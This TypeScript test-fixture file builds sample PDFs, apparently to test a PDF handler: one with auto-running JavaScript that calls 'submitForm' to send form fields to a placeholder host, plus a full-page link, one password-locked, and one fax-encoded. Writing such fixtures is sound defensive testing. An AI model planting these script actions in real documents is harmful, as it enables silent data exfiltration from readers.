import { pdfObjects, pdfOf, pdfStream } from './a-pdf.ts'

/** A PDF that would run a script, send its fields away, and lead elsewhere, in every way that the format knows. */
export const aHostilePdf = (): Uint8Array => {
  const script = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://example.com/"\\))'
  const catalogue =
    `/OpenAction << ${script} >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> ` +
    `/AcroForm << /Fields [6 0 R] /NeedAppearances true >> `
  const [first = '', pages = '', font = '', , content = ''] = pdfObjects({ text: 'Hostile' }, catalogue)
  const aPage =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Annots [6 0 R 7 0 R] ' +
    `/Resources << /Font << /F1 3 0 R >> >> /AA << /O << ${script} >> >> >>`
  const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [40 40 300 90] /AA << /F << ${script} >> >> >>`
  const link =
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://example.com/) >> >>'
  return pdfOf([first, pages, font, aPage, content, field, link])
}

/** A PDF that opens with a password only. */
export const aLockedPdf = (): Uint8Array => {
  const digest = `<${'5a'.repeat(32)}>`
  const lock = `<< /Filter /Standard /V 1 /R 2 /O ${digest} /U ${digest} /P -4 >>`
  const objects = pdfObjects({ text: 'Locked' })
  return pdfOf([...objects, lock], `/Encrypt ${objects.length + 1} 0 R /ID [<00> <00>] `)
}

/** A PDF as a fax machine and a Chinese printer make them: all black, in fax coding, and a text without its font. */
export const aFaxedPdf = (): Uint8Array => {
  const [first = '', pages = ''] = pdfObjects({})
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R ' +
    '/Resources << /Font << /F1 3 0 R >> /XObject << /I 6 0 R >> >> >>'
  const font =
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [7 0 R] >>'
  const content = pdfStream('q 200 0 0 200 0 0 cm /I Do Q BT /F1 24 Tf 1 g 20 100 Td <4E2D6587> Tj ET')
  // Eight white lines, "as the line above", and the end; the colours are turned round.
  const fax = pdfStream(
    Uint8Array.of(0xff, 0x00, 0x10, 0x01),
    '/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray ' +
      '/Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >> ',
  )
  const characters =
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light ' +
    '/CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>'
  return pdfOf([first, pages, font, page, content, fax, characters])
}
